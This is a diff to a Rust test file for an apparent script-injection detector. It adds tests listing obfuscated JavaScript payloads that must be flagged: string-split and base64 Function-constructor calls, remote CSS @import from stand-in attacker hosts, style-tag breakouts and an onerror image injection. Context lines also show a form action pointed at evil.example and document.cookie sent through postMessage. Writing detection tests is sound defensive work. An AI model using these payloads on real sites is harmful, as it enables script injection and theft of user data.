@@ -1224,7 +1224,6 @@ fn harmless_browser_calls_with_literals() {
     judge(
         &[
             "document.getElementById('x').innerHTML=name",
-            "document.getElementById('f').submit()",
             "document.querySelector('form').action='//evil.example'",
             "navigator.serviceWorker.register('/uploads/sw.js')",
             "window.postMessage(document.cookie,'*')",
@@ -1674,5 +1673,74 @@ fn sink_stored_under_a_key_the_engine_calls() {
         "{title: alert}",
     ] {
         assert!(detect(v, Context::Param).is_none(), "{v}");
+    }
+}
+
+#[test]
+fn function_constructor_called_on_the_spot() {
+    for v in [
+        "Function(\"ale\"+\"rt(1)\")()",
+        "Function('al'+'ert(1)')()",
+        "Function(atob('YWxlcnQoMSk='))()",
+        "new Function('al'+'ert(1)')()",
+        "new  Function ('al'+'ert(1)')()",
+        "x=1;Function('ale'+'rt(1)')()",
+        "[].constructor.constructor('alert(1)')()",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "Function(\"a\", \"return a\")",
+        "Function()()",
+        "Function.prototype.call",
+        "myFunction('x')()",
+        "renewFunction('a')()",
+        "Function objects are created with Function('body')",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn remote_style_sheet_imports() {
+    for v in [
+        "@import \"//evil.tld/steal.css\";",
+        "@import url(//evil.tld/x.css)",
+        "@import 'https://evil.example/x.css';",
+        "@IMPORT \"http://evil.example/a.css\" screen;",
+        "@\\69mport \"//evil.example/a.css\";",
+        "</style><style>@import '//evil.example/a.css';",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "@import url('/css/site.css')",
+        "@import \"theme.css\"",
+        "@import 'components/button';",
+        "use @import in Sass",
+        "@import: deprecated in Dart Sass, see https://sass-lang.com/d/import",
+        "mail me at dev@imports.example.com",
+        "Sass @import \"variables\"; then @use 'sass:math';",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn sink_member_read_and_dropped_is_no_write() {
+    for v in [
+        "document.getElementById('main').innerHTML",
+        "document.getElementById('main').innerHTML;",
+        "document.querySelector('#x').src",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+    for v in [
+        "document.getElementById('main').innerHTML=location.hash",
+        "document.getElementById('main').innerHTML='<img src=x onerror=alert(1)>'",
+        "<script>",
+        "<script src=\"https://cdn.jsdelivr.net/npm/bootstrap@5.3.0/dist/js/bootstrap.bundle.min.js\"></script>",
+    ] {
+        assert!(hit(v), "missed {v:?}");
     }
 }
